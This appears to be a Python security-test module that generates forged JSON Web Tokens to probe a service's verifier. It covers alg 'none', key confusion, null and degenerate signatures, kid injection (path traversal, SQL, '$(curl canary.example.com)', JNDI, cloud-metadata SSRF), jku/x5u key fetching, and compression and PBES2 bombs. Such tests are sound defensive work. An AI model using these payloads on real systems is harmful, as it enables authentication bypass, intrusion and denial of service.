"""Tokens that somebody makes by hand who has read what went wrong elsewhere: each of them got somebody in somewhere, or was meant to."""

import base64
import hashlib
import hmac
import itertools
import json
import zlib

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, utils
from jwcrypto import jwe, jwk
from lab import METADATA, encoded

DIGESTS = ["256", "384", "512"]
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
SOURCE = "ours"


def signed(header, payload, key):
    """A signature of `key`, whatever the header says. What is no object is taken as it is."""
    header, payload = (json.dumps(part) if isinstance(part, dict) else part for part in (header, payload))
    body = f"{encoded(header)}.{encoded(payload)}"
    return f"{body}.{encoded(signature(body.encode(), key))}"


def signature(body, key):
    """By a secret or a JWK: HS256, RS256, ES256 or Ed25519."""
    if isinstance(key, bytes):
        return hmac.digest(key, body, hashlib.sha256)
    if key["kty"] == "oct":
        return hmac.digest(base64.urlsafe_b64decode(key["k"] + "=="), body, hashlib.sha256)
    private = key.get_op_key("sign")
    if key["kty"] == "RSA":
        return private.sign(body, padding.PKCS1v15(), hashes.SHA256())
    if key["kty"] == "OKP":
        return private.sign(body)
    r, s = utils.decode_dss_signature(private.sign(body, ec.ECDSA(hashes.SHA256())))
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


class Forger:
    """Knows the public halves of the node's `keys` (by kid), has keys of its own, and wants to be `claims`."""

    def __init__(self, keys, claims, canary):
        self.keys, self.claims, self.canary = keys, claims, canary
        self.own = {
            "RS256": jwk.JWK.generate(kty="RSA", size=2048, kid="own"),
            "ES256": jwk.JWK.generate(kty="EC", crv="P-256", kid="own"),
            "EdDSA": jwk.JWK.generate(kty="OKP", crv="Ed25519", kid="own"),
            "HS256": jwk.JWK.generate(kty="oct", size=256, kid="own"),
        }
        # Whose issuer is honest, but not careful.
        self.known = {alg: key for alg, key in keys.items() if alg in self.own}

    def all(self):
        parts = [self.none, self.confusion, self.mathematics, self.kids, self.own_keys, self.extensions, self.encrypted, self.forms, self.claims_of_issuers]
        for part in parts:
            for name, token in part():
                yield SOURCE, f"{part.__name__}: {name}", token

    def none(self):
        body = encoded(json.dumps(self.claims))
        words = ["".join(letters) for letters in itertools.product(*((letter, letter.upper()) for letter in "none"))]
        words += ["none ", " none", "none\0", "n\u03bfne", "\uff4e\uff4f\uff4e\uff45", "n\u200bone", "", "null", "plain", "unsecured", "HS0"]
        stolen = signed({"alg": "RS256"}, self.claims, self.own["RS256"]).rsplit(".", 1)[1]
        for word in [*words, None, True, 0, ["none"], ["none", "HS256"], {"": "none"}]:
            for what, end in [("unsigned", ""), ("with a signature", stolen)]:
                yield f"alg {word!r}, {what}", f"{encoded(json.dumps({'alg': word}))}.{body}.{end}"
        yield "no alg", f"{encoded('{}')}.{body}."

    def confusion(self):
        """A public key is no secret: RSA's, the curves', in every form that a library might hand to HMAC."""
        for alg, key in self.known.items():
            if key["kty"] == "oct":
                continue
            public = key.get_op_key("verify")
            pem = key.export_to_pem()
            der = public.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
            forms = {
                "PEM": pem,
                "PEM without newline": pem.rstrip(b"\n"),
                "PEM with CRLF": pem.replace(b"\n", b"\r\n"),
                "DER": der,
                "DER as base64": base64.b64encode(der),
                "JWK": key.export_public().encode(),
                "thumbprint": key.thumbprint().encode(),
            }
            if key["kty"] == "RSA":
                pkcs1 = {"encoding": serialization.Encoding.PEM, "format": serialization.PublicFormat.PKCS1}
                forms |= {"PKCS#1": public.public_bytes(**pkcs1), "modulus": base64.urlsafe_b64decode(key["n"] + "==")}
            else:
                raw = {"encoding": serialization.Encoding.X962, "format": serialization.PublicFormat.UncompressedPoint}
                if key["kty"] == "OKP":
                    raw = {"encoding": serialization.Encoding.Raw, "format": serialization.PublicFormat.Raw}
                forms |= {"point": public.public_bytes(**raw), "x": base64.urlsafe_b64decode(key["x"] + "==")}
            for (form, secret), kid in itertools.product(forms.items(), [key["kid"], None]):
                header = {"alg": "HS256", **({"kid": kid} if kid else {})}
                yield f"{alg}'s {form} as a secret, kid {kid}", signed(header, self.claims, secret)
                if kid:
                    yield f"{alg}'s {form} as a secret under its own name", signed({"alg": alg, "kid": kid}, self.claims, secret)
        for digest in DIGESTS:
            yield f"HS{digest}, empty secret", signed({"alg": f"HS{digest}"}, self.claims, b"")

    def mathematics(self):
        """Signatures that are none, but that some arithmetic takes for one."""
        whole = P256_ORDER.to_bytes(32, "big")
        one, zero = (1).to_bytes(32, "big"), bytes(32)
        for name, end in {
            "r = s = 0": zero + zero,
            "r = 0": zero + one,
            "s = 0": one + zero,
            "r = s = 1": one + one,
            "r = s = the order": whole + whole,
            "r the order, s = 1": whole + one,
            "all ones": b"\xff" * 64,
            "DER of zeros": bytes.fromhex("3006020100020100"),
            "DER of ones": bytes.fromhex("3006020101020101"),
            "one zero": b"\0",
        }.items():
            yield f"ES256, {name}", self.raw("ES256", end)
            yield f"EdDSA, {name}", self.raw("EdDSA", end)
        yield "ES256 with ES384's length", self.raw("ES256", bytes(96))
        for name, end in {"0": bytes(256), "1": bytes(255) + b"\1", "the modulus": base64.urlsafe_b64decode(self.known["RS256"]["n"] + "==")}.items():
            yield f"RSA, {name}", self.raw("RS256", end)
        # Exponent 3 and a padding that is not looked at to its end, of 2006.
        block = b"\0\1\xff\xff\xff\xff\xff\xff\xff\xff\0" + bytes.fromhex("3031300d060960864801650304020105000420") + bytes(32)
        yield "RSA, a cube root", self.raw("RS256", block.ljust(256, b"\0"))
        yield "EdDSA, neutral element", self.raw("EdDSA", b"\1" + bytes(63))

    def raw(self, alg, end):
        header = {"alg": alg, "kid": self.keys[alg]["kid"]}
        return f"{encoded(json.dumps(header))}.{encoded(json.dumps(self.claims))}.{encoded(end)}"

    def kids(self):
        """A name of a key is a name: no path, no query, no address, no command."""
        for kid in [
            *["/dev/null", "../../../../../../dev/null", "..\\..\\nul", "/proc/sys/kernel/randomize_va_space", "jwt.secret", "%2e%2e%2fdev%2fnull"],
            *["file:///dev/null", self.canary, "https://canary.example.com/key", f"http://{METADATA}/latest/meta-data/", "//canary.example.com/k"],
            *["gopher://127.0.0.1:9/_x", "ldap://canary.example.com/a", "${jndi:ldap://canary.example.com/a}", "\\\\canary.example.com\\share"],
            *["x' UNION SELECT 'a", "' OR 1=1--", '" or ""="', "1; DROP TABLE users", "$(curl canary.example.com)", "`curl canary.example.com`"],
            *["| sleep 9", "{{7*7}}", "__proto__", "constructor", "*", ".", "", "\0", "null", "own\0", "\u202e1a", "A" * 4000, "%s%s%n", "<script>"],
        ]:
            for secret in [b"", b"\0", b"a"]:
                yield f"{kid[:40]!r}, secret {secret}", signed({"alg": "HS256", "kid": kid}, self.claims, secret)
            yield f"{kid[:40]!r}, own key", signed({"alg": "RS256", "kid": kid}, self.claims, self.own["RS256"])
        for kid in [0, None, True, [], ["own"], {}, {"$ne": None}]:
            yield f"kid {kid!r}", signed({"alg": "HS256", "kid": kid}, self.claims, self.own["HS256"])

    def own_keys(self):
        """A key that comes with the token, or an address where the token says it is."""
        urls = [self.canary, f"{self.canary}/.well-known/jwks.json", "https://canary.example.com/jwks.json", "http://canary.internal/jwks.json"]
        urls += [f"http://{METADATA}/latest/meta-data/", "http://[::1]/jwks.json", "http://localhost/jwks.json", "http://0/jwks.json"]
        urls += ["http://2130706433/jwks.json", "http://[::ffff:127.0.0.1]/jwks.json", "file:///etc/passwd", "data:application/json,{}", "jar:http://canary.example.com!/k"]
        for alg, key in self.own.items():
            public = key.export(as_dict=True) if key["kty"] == "oct" else key.export_public(as_dict=True)
            for kid in ["own", self.keys[alg]["kid"], None]:
                header = {"alg": alg, **({"kid": kid} if kid else {})}
                yield f"{alg}, jwk, kid {kid}", signed({**header, "jwk": public}, self.claims, key)
                yield f"{alg}, a set of jwk, kid {kid}", signed({**header, "keys": [public]}, self.claims, key)
                yield f"{alg}, jwk as text, kid {kid}", signed({**header, "jwk": json.dumps(public)}, self.claims, key)
                yield f"{alg}, x5c, kid {kid}", signed({**header, "x5c": [base64.b64encode(b"0\x82").decode()]}, self.claims, key)
            for url, place in itertools.product(urls, ["jku", "x5u"]):
                yield f"{alg}, {place} {url}", signed({"alg": alg, "kid": "own", place: url}, self.claims, key)
        for url in urls:
            more = {"iss": url, "aud": "conclave", "azp": url}
            yield f"iss {url}", signed({"alg": "RS256", "kid": "own"}, {**self.claims, **more}, self.own["RS256"])

    def extensions(self):
        """What a header asks for that we do not do, under good signatures of keys that the node has."""
        for alg, key in self.known.items():
            header = {"alg": alg, "kid": key["kid"]}
            for crit in [[], ["exp"], ["b64"], ["alg"], ["http://example.com/UNDEFINED"], "b64", None, {}, [1]]:
                yield f"{alg}, crit {crit!r}", signed({**header, "crit": crit, "b64": True, "exp": 1}, self.claims, key)
            body = f"{encoded(json.dumps({**header, 'b64': False, 'crit': ['b64']}))}.{json.dumps(self.claims)}"
            yield f"{alg}, RFC 7797, claims not encoded", f"{body}.{encoded(signature(body.encode(), key))}"
            inner = signed(header, self.claims, key)
            yield f"{alg}, a token in a token", signed({**header, "cty": "JWT"}, inner, key)
            yield f"{alg}, a token as text", signed({**header, "cty": "JWT"}, json.dumps(inner), key)
            small = zlib.compress(json.dumps(self.claims).encode(), wbits=-15)
            yield f"{alg}, deflated claims", signed({**header, "zip": "DEF"}, small, key)
            bomb = zlib.compress(b" " * 5_000_000 + json.dumps(self.claims).encode(), 9, wbits=-15)
            yield f"{alg}, five megabytes in five thousand bytes", signed({**header, "zip": "DEF"}, bomb, key)
            yield f"{alg}, detached", ".".join([inner.split(".")[0], "", inner.split(".")[2]])
            twice = json.dumps(header)[:-1]
            yield f"{alg}, alg twice", signed(f'{twice},"alg":"none"}}', self.claims, key)
            yield f"{alg}, alg twice, the other first", signed('{"alg":"none",' + json.dumps(header)[1:], self.claims, key)
            yield f"{alg}, kid twice", signed(f'{twice},"kid":"{key["kid"]}"}}', self.claims, key)

    def encrypted(self):
        """Whoever knows a public key can encrypt to it; that is no signature."""
        plain = json.dumps(self.claims)
        rsa = jwk.JWK.from_json(self.known["RS256"].export_public())
        rsa = jwk.JWK(**{name: rsa[name] for name in ("kty", "n", "e")})
        curve = jwk.JWK(**{name: self.known["ES256"][name] for name in ("kty", "crv", "x", "y")})
        for alg, key in [("RSA-OAEP", rsa), ("RSA-OAEP-256", rsa), ("ECDH-ES", curve), ("ECDH-ES+A128KW", curve)]:
            for more in [{}, {"cty": "JWT"}, {"zip": "DEF"}, {"kid": self.keys["RS256"]["kid"]}]:
                yield f"{alg} to the node's own key, {more}", wrapped(plain, {"alg": alg, "enc": "A128GCM", **more}, key)
        unsigned = f"{encoded(json.dumps({'alg': 'none'}))}.{encoded(plain)}."
        yield "an unsigned token inside", wrapped(unsigned, {"alg": "RSA-OAEP", "enc": "A128GCM", "cty": "JWT"}, rsa)
        yield "a bomb inside", wrapped(" " * 5_000_000 + plain, {"alg": "RSA-OAEP", "enc": "A128GCM", "zip": "DEF"}, rsa)
        direct = jwk.JWK.generate(kty="oct", size=256)
        yield "dir", wrapped(plain, {"alg": "dir", "enc": "A256GCM"}, direct)
        header = {"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2s": "AAAAAAAAAAA", "p2c": 2147483647}
        yield "a password of two billion rounds", ".".join([encoded(json.dumps(header)), *("AAAA",) * 4])

    def forms(self):
        """A good token, and something that a lenient reader passes over."""
        for alg, key in self.known.items():
            good = signed({"alg": alg, "kid": key["kid"]}, self.claims, key)
            header, claims, end = good.split(".")
            for name, token in {
                **{f"and {after!r}": good + after for after in [".", "..", ".e30", "=", "==", " ", "\n", "\0", "#", "?a", "/", ",", ";", "%00", "\ufeff", "\u200b"]},
                **{f"{before!r} before": before + good for before in [".", " ", "\n", "\0", "=", "\ufeff", "Bearer ", "JWT ", "t_"]},
                "twice": f"{good}.{good}",
                "two tokens": f"{good} {good}",
                "padded": ".".join(part + "=" * (-len(part) % 4 or 4) for part in good.split(".")),
                "a line break inside": f"{header}.{claims[:20]}\r\n{claims[20:]}.{end}",
                "a space inside": f"{header}. {claims}.{end}",
                "other dots": f"{header}\u3002{claims}\uff0e{end}",
                "full-width letters": f"{chr(ord(header[0]) + 0xFEE0)}{header[1:]}.{claims}.{end}",
                "the other alphabet": f"{header}.{claims}.{'+/' + end[2:]}",
                "an unused bit": f"{header}.{claims}.{end[:-1]}{other_last(end)}",
                "a letter less": good[:-1],
                "a letter more": good + "A",
                "parts in another order": f"{claims}.{header}.{end}",
                "as JSON": json.dumps({"protected": header, "payload": claims, "signature": end}),
                "as general JSON": json.dumps({"payload": claims, "signatures": [{"protected": header, "signature": end}]}),
                # python-jwt, 2022: one reader saw the JSON, the other the dots.
                "JSON and compact": json.dumps({f"  {header}.{claims}.{end}.": "", "protected": header, "payload": claims, "signature": end}),
                "percent-encoded once more": good.replace(".", "%2e"),
                "another user": f"{header}.{encoded(json.dumps({**self.claims, 'sub': 'root'}))}.{end}",
                "no signature": f"{header}.{claims}.",
                "no dots": good.replace(".", ""),
            }.items():
                yield f"{alg}, {name}", token

    def claims_of_issuers(self):
        """Good signatures under claims that no careful issuer writes."""
        key = self.known["HS256"]
        header = {"alg": "HS256", "kid": key["kid"]}
        text = json.dumps(self.claims)
        for name, payload in {
            "sub twice": text[:-1] + ',"sub":"root"}',
            "sub twice, escaped": text[:-1] + ',"\\u0073ub":"root"}',
            "exp twice": '{"exp":1,' + text[1:],
            "sub in UTF-16": text.encode("utf-16"),
            "sub in UTF-7": text.encode("utf-7").replace(b'"sub"', b'+ACI-sub+ACI-'),
            "a BOM": b"\xef\xbb\xbf" + text.encode(),
            "overlong UTF-8": text.encode().replace(b'"sub": "', b'"sub": "\xc0\xaf'),
            "half a surrogate": text.replace('"sub": "', '"sub": "\\ud800'),
            "a control character": text.replace('"sub": "', '"sub": "\\u0007'),
            "a line break in sub": text.replace('"sub": "', '"sub": "\\r\\n'),
            "two thousand deep": text[:-1] + ',"x":' + "[" * 2000 + "]" * 2000 + "}",
            "more after it": text + "{}",
            "in a list": f"[{text}]",
            "as text": json.dumps(text),
            "NaN": text.replace("}", ',"nbf":NaN}'),
            "empty": "",
            "not closed": text[:-1],
            "comments": text[:-1] + "/**/}",
            **{f"exp {exp}": json.dumps({**self.claims, "exp": exp}) for exp in [None, "never", True, [], -1, 1e300, 2**63, 2**64, 10**30, "9999999999", {}]},
            **{f"sub {sub!r:.40}": json.dumps({**self.claims, "sub": sub}) for sub in [None, "", True, 1.5, [], ["root"], {}, {"$gt": ""}, "a" * 257, "a\0b"]},
            "no exp": json.dumps({name: value for name, value in self.claims.items() if name != "exp"}),
            "no sub": json.dumps({name: value for name, value in self.claims.items() if name != "sub"}),
            "expired": json.dumps({**self.claims, "exp": 1}),
            "not yet": json.dumps({**self.claims, "nbf": 253_402_300_799}),
            "for another": json.dumps({**self.claims, "aud": "https://other.example"}),
            "rooms as text": json.dumps({**self.claims, "rooms": "*"}),
        }.items():
            yield name, signed(header, payload if isinstance(payload, bytes) else payload.encode(), key)


def wrapped(text, header, key):
    whole = jwe.JWE(text.encode(), json.dumps(header))
    whole.add_recipient(key)
    return whole.serialize(compact=True)


def other_last(text):
    """The last letter with one of the bits changed that a decoder drops."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return alphabet[alphabet.index(text[-1]) ^ 1]
